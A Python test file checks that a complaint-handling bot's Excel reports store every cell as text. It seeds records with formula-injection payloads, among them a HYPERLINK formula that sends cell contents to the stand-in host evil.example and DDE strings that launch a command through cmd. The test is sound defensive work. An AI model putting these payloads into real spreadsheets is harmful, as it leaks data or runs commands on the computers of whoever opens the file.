"""Spreadsheet safety: whatever a citizen or a directory wrote, every workbook cell is text, never a formula."""

from __future__ import annotations

import io
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.db.models import Account, Case, Department, DishonestyRecord, Obligation
from bot.db.session import Database
from bot.domain.reports import department_workbook, monthly_review
from bot.domain.stats import month_period
from bot.domain.workdays import WorkCalendar
from tests.conftest import SHANGHAI

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI)
NOVEMBER = month_period(2026, 11, SHANGHAI)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(\"http://evil.example\")",
    "响铃\x07和\x1b控制字符",
]


@pytest.fixture
async def db(migrated_database_url):
    database = Database(migrated_database_url)
    await database.upgrade()
    yield database
    await database.dispose()


async def seed(db: Database) -> Department:
    created = NOW - timedelta(days=10)
    async with db.session() as session:
        department = Department(code="=EVIL()", name='=HYPERLINK("http://evil.example","住建局")', kind="bureau",
                                region="@region", active=True)
        citizen = Account(telegram_id=5, role="citizen", created_at=created, last_seen_at=created)
        session.add_all([department, citizen])
        await session.flush()
        for n, summary in enumerate(HOSTILE):
            case = Case(ref=f"YC-20261120-{n:04d}", status="in_progress", domain="debt", domain_confidence=1.0,
                        domain_terms=[], suggested_domain="debt", department_id=department.id,
                        complainant_id=citizen.id, text=summary, text_masked=summary, created_at=created,
                        updated_at=created, details={"amount_yuan": 1000})
            session.add(case)
            await session.flush()
            session.add(DishonestyRecord(case_id=case.id, department_id=department.id, domain="debt", summary=summary,
                                         status="active", created_at=created))
            session.add(Obligation(case_id=case.id, kind="reply", department_id=department.id, state="open",
                                   due_at=created + timedelta(days=1), created_at=created))
        await session.commit()
        return department


def assert_text_only(raw: bytes) -> list[str]:
    """No formula cell anywhere (the reports compute their figures in Python, so none is expected); returns
    every string cell."""
    workbook = load_workbook(io.BytesIO(raw))
    strings = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings.append(cell.value)
                    if cell.value.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return strings


async def test_monthly_and_heads_workbooks_have_no_formulas(db) -> None:
    department = await seed(db)
    calendar = WorkCalendar.china()
    async with db.session() as session:
        review = await monthly_review(session=session, period=NOVEMBER, now=NOW, region=None, calendar=calendar)
        own = await department_workbook(session=session, period=NOVEMBER, now=NOW, department=department,
                                        calendar=calendar)
    assert review.workbook is not None and own is not None
    for raw in (review.workbook, own):
        strings = assert_text_only(raw)
        # The text is kept as written (so the record stays faithful), only as text.
        assert HOSTILE[0] in strings and HOSTILE[1] in strings and "\t=1+1" in strings
        assert "响铃\ufffd和\ufffd控制字符" in strings
        assert '=HYPERLINK("http://evil.example","住建局")' in strings
    async with db.session() as session:
        assert await session.scalar(select(Department.code).where(Department.id == department.id)) == "=EVIL()"
